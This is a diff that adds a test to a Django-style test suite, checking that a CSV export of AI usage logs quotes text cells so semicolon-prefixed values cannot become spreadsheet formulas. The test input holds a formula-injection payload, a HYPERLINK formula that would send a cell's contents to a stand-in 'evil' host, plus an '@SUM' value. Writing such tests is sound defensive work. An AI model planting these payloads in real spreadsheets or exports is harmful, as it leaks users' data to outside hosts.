@@ -410,3 +410,13 @@ def test_no_event_makes_record_usage_fail(staff: Any, staff_client: Client, data
             assert result["field"] in INPUT_FIELDS and result["reason"].startswith(f"{result['field']}: "), result
     recorded = sum(r["outcome"] == "RECORDED" for r in results)
     assert AIUsageLog.objects.count() == before + recorded
+
+
+def test_text_cells_are_quoted_so_a_semicolon_never_starts_a_formula_cell(staff: Any, staff_client: Client) -> None:
+    log = record_usage(**call(staff, feature="x;=HYPERLINK(\"http://evil/?\"&A1)", session_id="a;@SUM(1)",
+                              latency_ms=7)).log  # fmt: skip
+    assert log is not None
+    line = b"".join(staff_client.get("/admin/usage/aiusagelog/export/").streaming_content).decode().splitlines()[1]
+    assert line.startswith(f'{log.pk},"')  # the id stays a plain number
+    assert ',"x;=HYPERLINK(""http://evil/?""&A1)","acme","acme-1","a;@SUM(1)",' in line
+    assert line.endswith(',1000,0,0,500,0,0.006000000000000000,7,"",""')  # counts and the amount unquoted
